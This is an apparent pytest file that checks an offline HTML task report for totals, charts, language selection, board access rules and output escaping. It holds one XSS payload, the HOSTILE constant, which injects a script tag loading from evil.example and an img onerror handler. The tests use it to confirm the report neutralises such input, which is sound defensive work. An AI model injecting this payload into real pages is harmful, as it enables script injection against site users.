"""A report is one file that a browser opens without a network. It has totals of tasks, and the best rated pictures."""

import re
from base64 import b64decode
from collections.abc import Callable
from io import BytesIO
from typing import Any
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from PIL import Image

from tests.api import Client
from tests.bucket import Bucket
from tests.pictures import data_url, picture
from tests.resolvers.boards.boards import ended, join, new_board, put, set_member
from tests.server.exports.exporting import exported, prepared

HOSTILE = '</figcaption><script src="https://evil.example/x"></script><img onerror=alert(1) src="//evil.example">&'


async def recorded(user: Client) -> list[str]:
    """Three completed tasks of two models, with the ratings 2, 5 and none; and two that failed."""
    ids = []
    for number, model in enumerate(("imagen-4", "<b>flux</b>", "imagen-4")):
        task = await user.task("createTask", prompt=f"{number} {HOSTILE}", modelVersion=model)
        image = {"dataUrl": data_url(picture((40, 30), seed=number))}
        used = {"creditsDeducted": 1_000, "cost": "0.25", "generationTimeMs": 2_000}
        await user.task("completeTask", id=task["id"], image=image, **used)
        ids.append(task["id"])
    for task_id, rating in ((ids[0], 2), (ids[1], 5)):
        await user.mutate("rateTask", "errors { code }", id=task_id, rating=rating)
    failed = await user.task("createTask", prompt="a fox")
    await user.task("failTask", id=failed["id"], errorMessage="x", failureCode="content_policy")
    failed = await user.task("createTask", prompt="a hen")
    await user.task("failTask", id=failed["id"], errorMessage=HOSTILE)
    return ids


def pictures(page: str) -> list[bytes]:
    return [b64decode(found) for found in re.findall(r'src="data:image/webp;base64,([^"]+)"', page)]


def amounts(page: str) -> dict[str, str]:
    return dict(re.findall(r"<dt>([^<]+)</dt><dd>([^<]+)</dd>", page))


async def test_it_has_totals_charts_failures_and_the_best_pictures(user: Client, bucket: Bucket) -> None:
    ids = await recorded(user)
    await user.mutate("starTasks", "errors { code }", ids=[ids[2]], starred=True)
    answer = await exported(user, "REPORT", language="en")
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="tasks-[\d-]+\.html"', answer.headers["Content-Disposition"])
    assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'; img-src data:;")
    page = answer.text
    assert '<html lang="en">' in page
    assert amounts(page) == {
        "Tasks": "5",
        "Success rate": "60.0%",
        "Failed": "2",
        "Credits": "3,000",
        "Cost": "USD 0.75",
        "Average time": "2.0 s",
        "Average rating": "3.5",
    }
    assert re.findall("<h2>([^<]+)</h2>", page) == [
        *("Tasks over time", "Credits over time", "Cost over time"),
        *("By model", "Why tasks failed", "Starred and best rated pictures"),
    ]
    assert "content_policy" in page
    assert [Image.open(BytesIO(one)).format for one in pictures(page)] == ["WEBP"] * 3
    places = [page.index(f"{number} &lt;/figcaption&gt;") for number in (2, 1, 0)]
    assert places == sorted(places)
    [key] = [key for key in await bucket.keys(f"task-history/{user.id}/{ids[1]}") if key.endswith("-thumbnail")]
    await bucket.storage.remove([key])
    assert len(pictures((await exported(user, "REPORT")).text)) == 2


async def test_nothing_in_it_runs_or_asks_for_the_network(user: Client) -> None:
    """As XML it has just the elements that it is made of, whatever prompts and models say."""
    await recorded(user)
    page = (await exported(user, "REPORT")).text
    well_formed = re.sub(r"<(meta|img|br)([^>]*?)/?>", r"<\1\2/>", page.removeprefix("<!doctype html>"))
    elements = [*ElementTree.fromstring(well_formed).iter()]  # noqa: S314 - our own
    assert not {"script", "b", "link", "iframe"} & {element.tag for element in elements}
    attributes: list[tuple[str, str]] = [pair for element in elements for pair in element.attrib.items()]
    assert not [pair for pair in attributes if pair[0].startswith("on")]
    assert all(value.startswith("data:image/webp;base64,") for name, value in attributes if name in {"src", "href"})
    assert "<bdi>&lt;b&gt;flux&lt;/b&gt;</bdi>" in page
    assert "<bdi>&lt;/figcaption&gt;&lt;script src=&#34;" in page


@pytest.mark.parametrize(
    ("asked", "accepts", "language"),
    [
        ({}, "de, zh-TW;q=0.9, en;q=0.5", "zh-CN"),
        ({}, "en;q=0.2, zh", "zh-CN"),
        ({}, "fr", "en"),
        ({"language": "zh-CN"}, "en", "zh-CN"),
    ],
)
async def test_its_language_is_the_one_asked_for_or_that_of_the_browser(
    user: Client, asked: dict[str, Any], accepts: str, language: str
) -> None:
    export = await prepared(user, "REPORT", **asked)
    page = (await user.http.get(export["url"], headers={"Accept-Language": accepts})).text
    assert f'<html lang="{language}">' in page
    assert ("没有符合条件的任务。" if language == "zh-CN" else "No task matches.") in page
    error = await user.refused("exportTasks", "export { url }", format="REPORT", language="de")
    assert (error["code"], error["field"], "zh-CN" in error["message"]) == ("INVALID", ["input", "language"], True)


async def test_it_has_what_a_filter_selects_and_the_newest_pictures_where_none_is_rated(user: Client) -> None:
    await recorded(user)
    where = {"modelVersion": ["imagen-4"], "status": ["COMPLETED"]}
    ids = (await user.data("{ tasks(where: {ratedAtLeast: 1}) { nodes { id } } }"))["tasks"]["nodes"]
    for one in ids:
        await user.mutate("rateTask", "errors { code }", id=one["id"])
    page = (await exported(user, "REPORT", where=where, language="en")).text
    assert amounts(page)["Tasks"] == "2"
    assert "Latest pictures" in page
    assert len(pictures(page)) == 2
    assert page.index("2 &lt;/figcaption") < page.index("0 &lt;/figcaption")


async def test_a_member_has_one_of_a_board_with_what_members_see(
    user: Client, new_client: Callable[..., Client]
) -> None:
    """Stars and ratings are the member's own. Taken off the board, they find nothing at the report's address."""
    member, stranger = new_client(), new_client()
    ids = await recorded(user)
    board = await new_board(user, "A <b>狐狸/den</b>")
    await put(user, board, *ids[1:])
    await join(user, board, member, "CONTRIBUTOR")
    await put(member, board, await ended(member, "a hen", cost="0.5", failureCode="busy"))
    export = await prepared(member, "REPORT", boardId=board, language="en")
    assert export["taskCount"] == 3
    answer = (await member.http.get(export["url"])).raise_for_status()
    page, disposition = answer.text, answer.headers["Content-Disposition"]
    name = re.fullmatch(r"""attachment; filename="tasks-[\d-]+\.html"; filename\*=UTF-8''(.+)""", disposition)
    assert name
    assert re.fullmatch(r"A b 狐狸 den b [\d-]+\.html", unquote(name[1]))
    assert "<h1>Report on the board A &lt;b&gt;狐狸/den&lt;/b&gt;</h1>" in page
    assert amounts(page) == {
        "Tasks": "3",
        "Success rate": "66.7%",
        "Failed": "1",
        "Credits": "2,000",
        "Cost": "USD 1.00",
        "Average time": "2.0 s",
        "Tokens": "10",
    }
    assert "busy" in page
    by_member = page.partition("<h2>By member</h2>")[2].partition("</table>")[0]
    assert re.findall("<bdi>([^<]+)</bdi></th><td>([^<]+)", by_member) == [(str(user.id)[:8], "2"), ("You", "1")]
    assert "Latest pictures" in page
    assert len(pictures(page)) == 2
    own = (await exported(user, "REPORT", boardId=board, language="en")).text
    assert amounts(own)["Your average rating"] == "5.0"
    assert own.count("<figcaption") == own.count("5 of 5") == 1
    assert "Pictures that you starred or rated best" in own
    for month, count in (({"gte": "2026-01-01T00:00:00Z"}, 3), ({"lt": "2026-01-01T00:00:00Z"}, 0)):
        monthly = await prepared(user, "REPORT", boardId=board, where={"createdAt": month}, language="en")
        of_month = (await user.http.get(monthly["url"])).raise_for_status().text
        assert (monthly["taskCount"], amounts(of_month).get("Tasks", "0")) == (count, str(count))
    for client, given, code in (
        (stranger, {}, "NOT_FOUND"),
        (member, {"format": "CSV"}, "INVALID"),
        (member, {"where": {"status": ["FAILED"]}}, "INVALID"),
        (member, {"userId": str(member.id)}, "INVALID"),
    ):
        asked = {"format": "REPORT", "boardId": board} | given
        assert (await client.refused("exportTasks", "export { url }", **asked))["code"] == code
    await set_member(user, board, member, None)
    assert (await member.http.get(export["url"])).status_code == 404
